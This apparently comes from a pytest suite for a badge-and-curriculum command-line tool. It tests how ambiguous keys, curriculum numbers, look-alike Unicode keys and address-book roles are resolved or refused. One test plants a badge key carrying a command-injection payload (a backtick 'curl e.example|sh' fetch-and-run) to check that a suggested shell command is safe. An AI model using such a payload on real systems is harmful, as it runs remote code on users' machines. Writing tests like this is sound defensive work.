"""Keys that stand for two things: what is told goes by number, and what is ambiguous is refused."""

import json
import re

import pytest
from hostile.mending import mended_by

from cairn.curricula.record import BadgeClass, Gate, Rule

VALID, NOT_FOUND_OUT = 0, 1  # exit codes
mended = mended_by(10, "readers go by number and refuse what is ambiguous")


@pytest.fixture
def second(curriculum, adopt, record_of):
    """Bring a second version of the bees into force."""

    def second(**fields):
        blank = {"classes": (), "rules": (), "issuers": []}
        return adopt(
            record_of(**{**blank, **fields}, curriculum=curriculum.number, version=2),
        )

    return second


@pytest.fixture
def medicine(adopt, record_of):
    """Another curriculum, with badges of the same keys as the bees'."""
    return adopt(record_of(key="medicine", title="Medicine"))


@mended
def test_a_plain_badge_under_a_composites_key_is_not_taken_for_the_composite(
    answer, second, credentials, learner, issuer
):
    version = second(classes=(BadgeClass("keeper", "Beekeeper", type=3),))
    credentials.enrol(version.number, 2, sender=learner)
    credentials.award(version.last, learner, sender=issuer)
    assert answer("verify", learner, "bees/keeper")[0] == NOT_FOUND_OUT


@mended
def test_a_badge_that_stands_is_found_though_a_later_one_has_its_key(
    answer, enrol, award, second, curriculum, learner, token_id
):
    enrol()
    award()
    second(classes=(BadgeClass("b1", "Badge 1"),))
    assert answer("verify", learner, "bees/b1")[0] == NOT_FOUND_OUT
    assert answer("verify", token_id(curriculum.badge, learner))[0] == VALID


@mended
def test_a_badge_is_not_taken_for_one_of_a_curriculum_whose_key_was_taken(
    answer, enrol, award, medicine, second, learner
):
    enrol()
    award()
    second(key="medicine", title="Medicine")
    assert answer("verify", learner, "medicine/b1")[0] == NOT_FOUND_OUT


@mended
def test_nobody_enrols_in_a_curriculum_that_took_the_key_of_the_one_named(
    answer, medicine, second, credentials, curriculum, learner
):
    second(key="medicine", title="Medicine")
    code, _ = answer("enrol", "medicine")
    assert (code, credentials.enrolment_of(curriculum.number, learner)[0]) == (NOT_FOUND_OUT, 0)


@mended
def test_of_two_curricula_with_one_key_none_is_enrolled_in_by_it(
    answer, adopt, record_of, credentials, learner
):
    for title in ("Baking bread", "Baking bread, the rival"):
        last = adopt(record_of(key="bread", title=title))
    code, _ = answer("enrol", "bread")
    assert (code, credentials.enrolment_of(last.number - 1, learner)[0]) == (NOT_FOUND_OUT, 0)


def test_of_two_curricula_with_one_key_each_has_its_number(
    run, adopt, record_of, credentials, learner
):
    for title in ("Baking bread", "Baking bread, the rival"):
        last = adopt(record_of(key="bread", title=title))
    assert run("enrol", str(last.number))[0] == 0
    assert credentials.enrolment_of(last.number, learner)[0] == 1


@mended
def test_a_number_is_never_taken_for_a_key(
    answer, curriculum, medicine, second, credentials, learner, issuer
):
    credentials.enrol(medicine.number, 1, sender=learner)
    credentials.award(medicine.badge, learner, sender=issuer)
    second(key=str(medicine.number), title="Number")
    assert answer("verify", learner, f"{medicine.number}/b1")[0] in (VALID, NOT_FOUND_OUT)


@mended
def test_a_curriculum_is_accredited_for_by_its_number_whatever_the_keys(
    told, curriculum, medicine, second, other_issuer
):
    second(key=str(medicine.number), title="Number")
    words = ("propose", "--accredit", str(medicine.number), other_issuer, "--yes")
    assert '"Number"' not in told(*words)


@mended
def test_of_two_badges_with_one_key_a_learner_agrees_to_both(
    told, adopt, record_of, credentials, learner, issuer, token_id, answer
):
    names = ("a", "Expelled for fraud"), ("b", "Attendance"), ("a", "Diligence")
    classes = *(BadgeClass(*name) for name in names), BadgeClass("c", "C", rank=1)
    rule = Rule(4, (Gate(1, classes=0b1100),))
    atelier = adopt(record_of(key="atelier", classes=classes, rules=(rule,)))
    terms = told("enrol", "atelier")
    assert [name for _, name in names if name not in terms] == []
    credentials.award(atelier.badge, learner, sender=issuer)
    assert answer("verify", token_id(atelier.badge, learner))[0] == VALID


@mended_by(10, "a command for copying quotes, or numbers, what came from the chain")
def test_a_command_for_copying_holds_nothing_that_a_shell_would_run(
    told, adopt, record_of, credentials, learner, issuer
):
    classes = BadgeClass("b", "B"), BadgeClass("c`curl e.example|sh`", "C", rank=1)
    adopted = adopt(record_of(key="x", classes=classes, rules=(Rule(2, (Gate(1, 0b10),)),)))
    credentials.enrol(adopted.number, 1, sender=learner)
    credentials.award(adopted.badge, learner, sender=issuer)

    [offered] = re.findall(r"`ape run claim (.*)`", told("progress", learner, "x"))
    assert re.search(r"[`$;|&]", re.sub("'[^']*'", "", offered)) is None


@mended_by(10, "look-alike letters of other scripts are marked")
def test_a_key_in_look_alike_letters_is_not_told_like_the_other(
    run, bench, record_of, put_forward, act, curricula
):
    bees, look_alike = record_of(), record_of(key="b\u0435\u0435s", title="Beekeeping")
    put_forward(*(act(curricula, "adopt", bench.stage(record)) for record in (bees, look_alike)))
    sentences = json.loads("\n".join(run("proposal", "1", "--json")[1]))["changes"]
    as_the_eye_has_it = [sentence.replace("\u0435", "e") for sentence in sentences]
    half = len(sentences) // 2
    assert as_the_eye_has_it[:half] != as_the_eye_has_it[half:]


@mended_by(10, "a role that is written like an address is refused")
def test_no_role_of_an_address_book_stands_in_for_an_address(
    answer, enrol, award, written_book, learner, stranger
):
    enrol()
    award()
    written_book(accounts={str(stranger): str(learner)})
    assert answer("verify", stranger, "bees/b1")[0] == NOT_FOUND_OUT
